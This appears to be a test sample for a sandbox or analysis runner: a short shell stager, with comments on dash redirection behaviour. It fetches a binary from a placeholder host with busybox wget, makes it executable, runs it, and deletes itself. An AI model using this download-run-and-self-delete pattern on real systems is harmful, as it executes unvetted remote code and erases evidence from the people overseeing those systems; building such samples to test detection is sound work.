# AASEE end-to-end sample without a "#!" line: the sample runner starts it as
# "/bin/sh /tmp/stager.sh", so the script is only the shell's argument. dash opens a
# redirection itself before it forks the command, so the stage below is written by the shell
# while its child (busybox wget) fetches it; then the script deletes itself.
cdn=http://updates.aasee-cdn.example
busybox wget -q -O - "$cdn/stage-j.bin" > /tmp/stage-j
chmod +x /tmp/stage-j
/tmp/stage-j && echo "redirected stage ran"
rm -f "$0" && echo "stager deleted"
